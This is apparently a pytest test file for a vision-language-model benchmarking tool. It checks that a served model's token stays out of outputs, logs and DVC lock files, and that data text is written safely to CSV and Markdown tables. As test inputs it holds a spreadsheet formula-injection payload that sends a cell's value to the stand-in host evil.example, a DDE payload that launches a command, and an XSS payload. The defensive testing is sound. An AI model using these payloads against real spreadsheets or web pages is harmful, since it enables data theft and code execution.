"""What vlmgrid writes is safe to share and to open: a server's secrets (`serve.env`) reach no output, log,
fingerprint or param; a data text that a spreadsheet would run as a formula, or a web page as markup, lands
in the tables as text; and a predictions file of another benchmark is named as such."""

from __future__ import annotations

import csv
import json
import sys
import textwrap
from pathlib import Path

import pandas as pd
import pytest
import yaml
from helpers.common import REPO, copy_workflow, dvc_grid_repo, pope_grid_file, run

from vlmgrid import paths
from vlmgrid.cellrun.job import job_fingerprint
from vlmgrid.cli import main
from vlmgrid.models.openai_backend import OpenAI
from vlmgrid.predictions import read_metadata

SECRET = "hf_s3cr3t-T0KEN-value"

# A served model's server: it answers "Yes" to every request, and refuses to start without the token it was
# given in serve.env (so the token still reaches the server that needs it), which it reads from a file beside
# it.
FAKE_SERVER = textwrap.dedent("""
    import json, os, sys
    from http.server import BaseHTTPRequestHandler, HTTPServer

    if os.environ.get("HF_TOKEN") != open(sys.argv[2], encoding="utf-8").read():
        sys.exit("HF_TOKEN is not the token of serve.env")

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def _send(self, body):
            data = json.dumps(body).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):
            self._send({"data": [{"id": "served"}]})

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self._send({"choices": [{"index": 0, "finish_reason": "stop",
                                     "message": {"role": "assistant", "content": "Yes"}}]})

    HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
""")


def served_grid(small_config, tmp_path: Path, token: str = SECRET) -> str:
    script = tmp_path / "fake_server.py"
    script.write_text(FAKE_SERVER)
    (tmp_path / "expected-token").write_text(token)
    model = {
        "backend": "openai",
        "model": "served",
        "max_retries": 0,
        "concurrency": 2,
        "timeout": 30,
        "serve": {
            "command": [sys.executable, str(script), "{port}", str(tmp_path / "expected-token")],
            "startup_timeout": 60,
            "stop_timeout": 5,
            "env": {"HF_TOKEN": token, "VLLM_API_KEY": token + "-api"},
        },
    }
    return pope_grid_file(small_config, tmp_path, {"served": model})


def files_holding(folder: Path, text: str) -> list[str]:
    return sorted(
        str(path.relative_to(folder))
        for path in folder.rglob("*")
        if path.is_file() and text.encode() in path.read_bytes()
    )


def test_a_serve_env_token_reaches_no_output_log_or_report(small_config, tmp_path, capsys):
    config = served_grid(small_config, tmp_path)
    results = Path(yaml.safe_load(open(config))["results_dir"])
    for command in (
        ["prepare", "pope-fixture"],
        ["fetch-model", "served"],
        ["infer", "served", "pope-fixture"],
        ["score", "served", "pope-fixture"],
        ["report"],
    ):
        assert main([*command, "--config", config]) == 0, capsys.readouterr().err
    said = capsys.readouterr()
    metadata = read_metadata(paths.predictions_path(results, "served", "pope-fixture"))
    # the server ran with the token (the fake refuses to start without it), yet only its name is recorded
    assert metadata["provenance"]["server"]["version"] is None
    assert metadata["model_settings"]["serve"]["env"] == ["HF_TOKEN", "VLLM_API_KEY"]
    assert SECRET not in said.out + said.err
    assert files_holding(results, SECRET) == []
    assert files_holding(Path(small_config["data_dir"]), SECRET) == []


def test_dvc_tracks_a_models_settings_by_its_stamp_which_names_the_tokens_variables_only(
    small_config, tmp_path, capsys
):
    # DVC writes the value of every param a stage tracks into dvc.lock (committed, pushed): no stage tracks a
    # model's settings in the config (the grid stage depends on the config file, which DVC records by its
    # hash), and the grid's settings stamp, whose whole content the grid stage tracks instead, holds
    # serve.env's names only
    from vlmgrid.stages.dvc_pipelines import render_pipelines

    for dvc_file, text in render_pipelines(REPO).items():
        stages = yaml.safe_load(text)["stages"]
        tracked = [
            (source, key)
            for stage in stages.values()
            for entry in (stage.get("do", stage).get("params") or [])
            for source, keys in (entry.items() if isinstance(entry, dict) else [("params.yaml", [entry])])
            for key in (keys or [None])
        ]
        stamps = (
            "${data_dir}/.source-stamps" if dvc_file == Path("dvc.yaml") else "${results_dir}/source-stamps"
        )
        # the grid stage's two: the config's `grid`, and the whole settings stamp
        assert [key for source, key in tracked if source.endswith(".yaml")] == ["grid"], dvc_file
        assert len(tracked) == 2 and (f"{stamps}/grid/settings.json", None) in tracked, dvc_file
        # a shared model's weights: fetched again when its stamp changes
        assert f"{stamps}/models/${{item}}.json" in stages["fetch_model"]["do"]["deps"], dvc_file
    config = served_grid(small_config, tmp_path)
    stamps = tmp_path / "stamps"
    assert main(["stamp-sources", "--config", config, "--out", str(stamps)]) == 0, capsys.readouterr().err
    stamp = json.loads((stamps / "models" / "served.json").read_text(encoding="utf-8"))
    assert stamp["models"]["served"]["serve"]["env"] == ["HF_TOKEN", "VLLM_API_KEY"]
    settings = json.loads((stamps / "grid" / "settings.json").read_text(encoding="utf-8"))
    assert settings["models"]["served"]["serve"]["env"] == ["HF_TOKEN", "VLLM_API_KEY"]
    assert files_holding(stamps, SECRET) == []
    # a new token is the same stamps, so DVC reruns nothing
    before = {
        path: path.read_bytes()
        for path in (stamps / "models" / "served.json", stamps / "grid" / "settings.json")
    }
    assert (
        main(
            [
                "stamp-sources",
                "--config",
                served_grid(small_config, tmp_path, "hf_another"),
                "--out",
                str(stamps),
            ]
        )
        == 0
    )
    assert {path: path.read_bytes() for path in before} == before


@pytest.mark.integration
def test_dvc_repro_of_a_served_model_writes_no_token_into_dvc_lock(small_config, tmp_path):
    """The grid run through DVC: its settings go into dvc.lock (the grid stage's params), the token's
    variables by name only, and no file DVC or Snakemake writes holds the token."""
    grid = yaml.safe_load(Path(served_grid(small_config, tmp_path)).read_text())
    grid = {
        **{key: value for key, value in grid.items() if key != "prompts_dir"},
        "data_dir": "data",
        "results_dir": "results",
    }
    root = dvc_grid_repo(copy_workflow(tmp_path / "repo"), grid)
    run(["dvc", "repro"], root)
    lock = yaml.safe_load((root / "dvc.lock").read_text())
    params = lock["stages"]["grid"]["params"]["data/.source-stamps/grid/settings.json"]
    assert params["models"]["served"]["serve"]["env"] == ["HF_TOKEN", "VLLM_API_KEY"]
    assert (root / "results/predictions/served/pope-fixture.parquet").is_file()
    # the config holds it (git keeps that file compressed); nothing else
    assert files_holding(root, SECRET) == ["config/config.yaml"]


def test_a_new_token_is_the_same_cell_and_the_same_server(tmp_path):
    def settings(token: str, names=("HF_TOKEN",)) -> dict:
        return {
            "backend": "openai",
            "model": "served",
            "api_key_env": "OPENAI_API_KEY",
            "serve": {"command": ["vllm", "serve", "{model_dir}"], "env": {name: token for name in names}},
        }

    manifest = {"fingerprint": "data"}
    identity = [job_fingerprint(settings(token), manifest, "yes_no", [0, 4]) for token in ("old", "new")]
    # a new token resumes the parts of the old one and reads the same response cache
    assert identity[0] == identity[1]
    assert (
        OpenAI({**settings("old"), "base_url": "http://127.0.0.1:1/v1"}).cache_scope
        == OpenAI({**settings("new"), "base_url": "http://127.0.0.1:2/v1"}).cache_scope
    )
    # another variable is another server environment
    assert (
        job_fingerprint(settings("old", ("HF_TOKEN", "HF_HOME")), manifest, "yes_no", [0, 4]) != identity[0]
    )


# --- data text that a spreadsheet would run, or a Markdown page render as HTML ------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
]
# A carriage return inside a field is written unquoted (Python's csv quotes only the line terminator's
# characters), so a reader splits the row there: this one is checked in the file's text.
CARRIAGE = "\r=1"
MARKUP = "<img src=x onerror=alert(1)> & a|b"


def test_breakdown_groups_that_start_a_formula_or_hold_markup_are_written_as_text(tmp_path):
    from helpers.report import build, read_csv, write_scores

    files = write_scores(tmp_path)
    names = [*FORMULAS, MARKUP, CARRIAGE]
    for path in (files[("clip_tiny", "pope-fixture")], files[("big-vlm", "pope-fixture")]):
        obj = json.loads(path.read_text())
        groups = list(obj["breakdown"]["split"].values())
        obj["breakdown"]["split"] = {name: groups[index % len(groups)] for index, name in enumerate(names)}
        obj["breakdown"]["split"]["-3.2"] = {
            **groups[0],
            "metrics": {**groups[0]["metrics"], "f1": {"value": -3.2, "ci95": [-4.0, -2.5]}},
        }
        path.write_text(json.dumps(obj))
    build(tmp_path, files)
    text = (tmp_path / "tables" / "breakdown.csv").read_bytes().decode("utf-8")
    assert f",'{CARRIAGE}," in text and f",{CARRIAGE}," not in text
    (tmp_path / "tables" / "breakdown.csv").write_bytes(
        text.replace(f"'{CARRIAGE}", "'carriage").encode("utf-8")
    )
    rows = read_csv(tmp_path / "tables" / "breakdown.csv")
    written = {row["group"] for row in rows if row["model"] == "clip_tiny"} - {"'carriage"}
    assert written == {"'" + name for name in FORMULAS} | {MARKUP, "-3.2"}
    # numbers, negative ones too, stay numbers
    negative = next(row for row in rows if row["group"] == "-3.2" and row["metric"] == "f1")
    assert (negative["value"], negative["ci_low"], negative["ci_high"]) == ("-3.2", "-4.0", "-2.5")
    md = (tmp_path / "tables" / "breakdown.md").read_text(encoding="utf-8")
    assert "<img" not in md and "| clip_tiny | &lt;img src=x onerror=alert(1)&gt; &amp; a\\|b | F1 |" in md


def test_diff_csv_writes_answers_that_start_a_formula_as_text(tmp_path, write_config, capsys):
    from helpers.diff import _config, _prepare, _rows, _write

    bench = _prepare(tmp_path, "pope", "pope-fixture", size=4)
    ids = bench.records["id"].tolist()
    answers_a = {item: "Yes" for item in ids}
    answers_b = {**answers_a, **dict(zip(ids, FORMULAS))}
    config = _config(tmp_path, write_config, "pope-fixture")
    path_a = _write(tmp_path / "a.parquet", bench, pd.DataFrame(_rows(bench, answers_a, "pope")))
    path_b = _write(tmp_path / "b.parquet", bench, pd.DataFrame(_rows(bench, answers_b, "pope")))
    out = tmp_path / "diff.csv"
    assert main(["diff", "pope-fixture", path_a, path_b, "--config", config, "--csv", str(out)]) == 0, (
        capsys.readouterr().err
    )
    with out.open(newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    assert {rows[item]["raw_b"] for item in ids[: len(FORMULAS)]} == {"'" + text for text in FORMULAS}
    assert {rows[item]["raw_a"] for item in ids[: len(FORMULAS)]} == {"Yes"}
    assert rows[ids[0]]["prediction_index_a"] == "0"


# --- a predictions file of another benchmark ----------------------------------------------------------------


def test_diff_of_a_file_made_for_another_benchmark_names_that_benchmark(tmp_path, write_config, capsys):
    from helpers.diff import _prepare, _rows, _write

    pope = _prepare(tmp_path, "pope", "pope-fixture", size=4)
    sqa = _prepare(tmp_path, "scienceqa_img", "scienceqa-fixture", size=8)
    config = write_config(
        {
            "data_dir": str(tmp_path / "data"),
            "results_dir": str(tmp_path / "results"),
            "benchmarks": {
                "pope-fixture": {"kind": "pope", "source": {"type": "fixture", "seed": 0, "size": 4}},
                "scienceqa-fixture": {
                    "kind": "scienceqa_img",
                    "source": {"type": "fixture", "seed": 0, "size": 8},
                },
            },
            "models": {"random": {"backend": "baseline", "seed": 0}},
            "grid": {"models": ["random"], "benchmarks": ["pope-fixture", "scienceqa-fixture"]},
        }
    )
    of_sqa = _write(
        tmp_path / "sqa.parquet",
        sqa,
        pd.DataFrame(_rows(sqa, {item: "A" for item in sqa.records["id"]}, "letter")),
    )
    of_pope = _write(
        tmp_path / "pope.parquet",
        pope,
        pd.DataFrame(_rows(pope, {item: "Yes" for item in pope.records["id"]}, "pope")),
    )
    assert main(["diff", "pope-fixture", of_sqa, of_pope, "--config", str(config)]) == 2
    err = capsys.readouterr().err
    assert err.strip() == (
        f"vlmgrid: error: predictions file {of_sqa} holds answers to benchmark scienceqa-fixture "
        f"(its metadata say so), not pope-fixture; diff it with another set of scienceqa-fixture: "
        f"`vlmgrid diff scienceqa-fixture {of_sqa} ...`"
    )
